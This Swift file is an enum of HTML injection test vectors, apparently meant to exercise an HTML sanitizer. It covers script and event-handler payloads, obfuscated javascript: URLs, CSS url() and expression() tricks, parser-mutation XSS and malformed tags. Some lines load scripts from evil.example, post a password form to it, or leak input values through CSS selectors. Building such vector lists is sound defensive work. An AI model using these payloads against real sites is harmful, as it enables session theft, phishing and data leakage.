/// What has been tried, by whoever tried it, to make a page do what its reader did not ask for. One a line.
enum SafeHTMLVectors {
    static let all: [String] = (scripts + addresses + styles + mutations + broken)
        .split(separator: "\n").map(String.init)

    private static let scripts = #"""
        <script>alert(1)</script>
        <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
        <script/src=//evil.example></script >
        <<script>alert(1);//<</script>
        <script\#u{0C}type="text/javascript">alert(1)</script>
        <img src=x onerror=alert(1)>
        <IMG SRC=x OnError="alert(1)">
        <img src=x onerror\#u{0C}=\#u{0C}alert(1)>
        <img/src=x/onerror=alert(1)>
        <img """><script>alert(1)</script>">
        <img src="x` `<script>alert(1)</script>"` `>
        <body onload=alert(1)>
        <body background="javascript:alert(1)">
        <div onmouseover="alert(1)">x</div>
        <p onclick=alert(1) style=x>x</p>
        <a onmouseover=alert(document.cookie)>x</a>
        <svg onload=alert(1)>
        <svg/onload=alert(1)//
        <svg><script>alert(1)</script></svg>
        <svg><script xlink:href="data:text/javascript,alert(1)"/></svg>
        <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
        <svg><set attributeName="onmouseover" to="alert(1)"/></svg>
        <svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>
        <svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>
        <math href="javascript:alert(1)">x</math>
        <iframe src="javascript:alert(1)"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe/onload=alert(1)>
        <frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
        <object data="javascript:alert(1)"></object>
        <object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
        <embed src="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml">
        <applet code=x></applet>
        <link rel=stylesheet href="https://evil.example/x.css">
        <link rel="import" href="https://evil.example/x">
        <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <meta http-equiv="Set-Cookie" content="a=b">
        <base href="javascript:alert(1);//">
        <form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>
        <form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
        <isindex action="javascript:alert(1)" type=image>
        <input type=image src=x onerror=alert(1)>
        <input autofocus onfocus=alert(1)>
        <select autofocus onfocus=alert(1)><option>x</select>
        <textarea autofocus onfocus=alert(1)>x</textarea>
        <keygen autofocus onfocus=alert(1)>
        <video src=x onerror=alert(1)></video>
        <video><source onerror="alert(1)"></video>
        <audio src=x onerror=alert(1)>
        <details open ontoggle=alert(1)><summary>x</summary></details>
        <marquee onstart=alert(1)>x</marquee>
        <dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
        <bgsound src="javascript:alert(1)">
        <xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml><span datasrc=#x datafld=b></span>
        <?xml-stylesheet href="javascript:alert(1)"?>
        <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
        <!-- --!><script>alert(1)</script>
        <!--><script>alert(1)</script>-->
        <custom-element onclick=alert(1) is=x>x</custom-element>
        <slot name=x onslotchange=alert(1)>x</slot>
        <template><script>alert(1)</script></template>
        <template shadowrootmode=open><script>alert(1)</script></template>
        <portal src="javascript:alert(1)"></portal>
        <b id=location name=cookie class=evil data-act contenteditable tabindex=1 accesskey=x draggable=true>x</b>
        <a href=x ping=https://evil.example/ download target=top>x</a>
        <img srcset="https://evil.example/x 2x" sizes=1 src=https://a.example/ loading=eager crossorigin referrerpolicy=unsafe-url>
        <img src=https://a.example/x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>
        <img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
        <table background="javascript:alert(1)"><tr><td background="https://evil.example/">x</table>
        <input type=hidden popovertarget=x><div popover id=x onbeforetoggle=alert(1)>x</div>
        """#

    private static let addresses = #"""

        <a href="javascript:alert(1)">x</a>
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="&#14; javascript:alert(1)">x</a>
        <a href="java&#09;script:alert(1)">x</a>
        <a href="java&#x0A;script:alert(1)">x</a>
        <a href="java&#x0D;script:alert(1)">x</a>
        <a href="java&Tab;script:alert(1)">x</a>
        <a href="java&NewLine;script&colon;alert(1)">x</a>
        <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
        <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="\#u{1}javascript:alert(1)">x</a>
        <a href="\#u{A0}javascript:alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="livescript:x">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
        <a href="blob:https://a.example/x">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="feed:javascript:alert(1)">x</a>
        <a href="view-source:javascript:alert(1)">x</a>
        <a href="jar:https://evil.example!/x">x</a>
        <a href="ms-msdt:/id PCWDiagnostic">x</a>
        <a href="search-ms:query=x">x</a>
        <a href="http:alert(1)">x</a>
        <a href="https:///">x</a>
        <a href="//evil.example/" target=_parent>x</a>
        <a href="/settings/profile">x</a>
        <a href="?x">x</a>
        <a href="#x" name=x id=x>x</a>
        <a href='https://a.example/"onmouseover="alert(1)'>x</a>
        <a href=https://a.example/`onmouseover=alert(1)`>x</a>
        <a href="https://a.example/<script>alert(1)</script>">x</a>
        <a href="javascript:alert(1)" href="https://a.example/">x</a>
        <a href="https://a.example/" href="javascript:alert(1)">x</a>
        <img src="javascript:alert(1)">
        <img src="data:image/svg+xml,<svg onload=alert(1)>">
        <img src="data:image/svg+xml;base64,PHN2Zz4=">
        <img src="data:text/html;base64,PHNjcmlwdD4=">
        <img src="data:image/png;base64,AAAA"onerror=alert(1)>
        <img src="data:image/png,<script>">
        <img src="data:image/png;charset=x;base64,AAAA">
        <img src="file:///etc/passwd">
        <img src="cid:">
        <img src="cid:x&quot; onerror=&quot;alert(1)">
        <img src="/interests/1/claim">
        <img src="mhtml:https://evil.example/">
        <img alt="<script>alert(1)</script>" src=https://a.example/>
        <img alt='"><script>alert(1)</script>' title='"><script>alert(1)</script>' src=https://a.example/>
        """#

    private static let styles = #"""

        <div style="background:url(javascript:alert(1))">x</div>
        <div style="background-image:url(https://evil.example/x.png)">x</div>
        <div style="background:#fff url('https://evil.example/x.png') no-repeat">x</div>
        <div style="background:u\72l(https://evil.example/)">x</div>
        <div style="background:\75rl(https://evil.example/)">x</div>
        <div style="b\61ckground:url(https://evil.example/)">x</div>
        <div style="background:ur/**/l(https://evil.example/)">x</div>
        <div style="background:url (https://evil.example/)">x</div>
        <div style="background:URL(//evil.example)">x</div>
        <div style="background:image-set('https://evil.example/' 1x)">x</div>
        <div style="background:-webkit-image-set(url(https://evil.example/) 1x)">x</div>
        <div style="background:image('https://evil.example/')">x</div>
        <div style="background:element(#x)">x</div>
        <div style="background:cross-fade(url(https://evil.example/), red)">x</div>
        <div style="list-style:url(https://evil.example/)">x</div>
        <div style="list-style-image:url(https://evil.example/)">x</div>
        <div style="cursor:url(https://evil.example/),auto">x</div>
        <div style="content:url(https://evil.example/)">x</div>
        <div style="border-image:url(https://evil.example/) 1">x</div>
        <div style="mask:url(https://evil.example/)">x</div>
        <div style="filter:url(https://evil.example/#x)">x</div>
        <div style="font-family:x;src:url(https://evil.example/)">x</div>
        <div style="font-family:'x</style><script>alert(1)</script>'">x</div>
        <div style="font-family:&quot;x&quot;;color:red">x</div>
        <div style="font-family:'unclosed;color:red">x</div>
        <div style="width:expression(alert(1))">x</div>
        <div style="width:exp/**/ression(alert(1))">x</div>
        <div style="xss:expr/*XSS*/ession(alert(1))">x</div>
        <div style="width:e\xpression(alert(1))">x</div>
        <div style="behavior:url(#default#time2)">x</div>
        <div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
        <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">Sign in again</div>
        <div style="position:absolute;inset:0">x</div>
        <div style="pos\ition:fixed">x</div>
        <div style="position :fixed!important">x</div>
        <div style="transform:translate(-500px)">x</div>
        <div style="animation:x 1s">x</div>
        <div style="--x:url(https://evil.example/);background:var(--x)">x</div>
        <div style="width:attr(data-x px)">x</div>
        <div style="color:env(x)">x</div>
        <div style="color:red;}body{background:url(https://evil.example/)}">x</div>
        <div style="@import 'https://evil.example/x.css'">x</div>
        <div style="color:red;@import url(https://evil.example/)">x</div>
        <div style="color:red\#u{0}">x</div>
        <div style="display:contents;content:'x'">x</div>
        <div style='color:red" onmouseover="alert(1)'>x</div>
        <div style="background:rgb(url(x))">x</div>
        <div style="width:calc(1px + url(x))">x</div>
        <div style="color:red;;;:;color">x</div>
        <style>@import 'https://evil.example/x.css';</style>
        <style>input[value^=a]{background:url(https://evil.example/a)}</style>
        <style>*{background:url(https://evil.example/)}</style>x
        <style type="text/css"><!-- </style><img src=x onerror=alert(1)> --></style>
        <style></style\#u{0C}><script>alert(1)</script>
        <font face="x;url(https://evil.example/)" color="expression(alert(1))" size="9999">x</font>
        <td bgcolor="url(x)" width="expression(1)" height="1;x" align="x">x</td>
        """#

    private static let mutations = #"""

        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noscript><style></noscript><img src=x onerror=alert(1)></style>
        <noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
        <noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
        <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
        <listing>&lt;img onerror="alert(1);//" src=x&gt;</listing>
        <plaintext><img src=x onerror=alert(1)>
        <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
        <title><img title="</title><img src=x onerror=alert(1)>"></title>
        <iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
        <template><p title="</template><img src=x onerror=alert(1)>"></template>
        <select><template><img src=x onerror=alert(1)></template></select>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>
        <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
        <svg><desc><math><mi></desc><img src=x onerror=alert(1)></svg>
        <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
        <svg><title><img src=x onerror=alert(1)></title></svg>
        <svg><p><style><g title="</style><img src=x onerror=alert(1)>">
        <math><style><img src=x onerror=alert(1)></style></math>
        <svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
        <![CDATA[<img src=x onerror=alert(1)>]]>
        <table><a href="javascript:alert(1)"><tr><td>x</a></table>
        <p><table><p><table><img title="</p></table><img src=x onerror=alert(1)>">
        <a href=https://a.example/><table><a href=javascript:alert(1)>x</a></table></a>
        <b><i><p></b>x</i><script>alert(1)</script></p>
        <pre>

        <img src=x onerror=alert(1)></pre>
        &lt;script&gt;alert(1)&lt;/script&gt;
        &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
        &lt;img src=x onerror=alert(1)&gt;
        <p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
        <p title="a&quot;onmouseover=&quot;alert(1)">x</p>
        <p title='`` onmouseover=alert(1)'>x</p>
        <div><embed><svg><path><foreignObject><p><style><!-- </style><img src=x onerror=alert(1)>-->
        <ruby><rtc><img src=x onerror=alert(1)></rtc></ruby>
        <ul><li><svg></li></ul><img src=x onerror=alert(1)></svg>
        <option><style></option></select><img src=x onerror=alert(1)></style>
        <frameset><noframes><style></noframes><img src=x onerror=alert(1)></style>
        """#

    private static let broken = #"""

        <
        <a
        <a href="https://a.example/
        <a href=https://a.example/ <img src=x onerror=alert(1)>
        <img src=x onerror=alert(1)//
        <img src=x onerror=alert(1)\#u{0}>
        <scr\#u{0}ipt>alert(1)</scr\#u{0}ipt>
        <\#u{0}script>alert(1)</script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <sc<!-- -->ript>alert(1)</sc<!-- -->ript>
        </script><script>alert(1)
        <script>alert(1)
        <style>
        <title>
        <!--
        <!-
        <!
        <?
        </
        </p
        <p/>x<br/>x</br></p></p>
        ＜script＞alert(1)＜/script＞
        <ſcript>alert(1)</ſcript>
        <ımg src=x onerror=alert(1)>
        <a\#u{2028}href="javascript:alert(1)">x</a>
        \#u{FEFF}<script>alert(1)</script>
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <p x="1"y='2'z=3 a b=c/d>x
        <p =x ==y "z" 'a'>x
        <p style=color:red;background:url(x) title=a>x
        """#
}
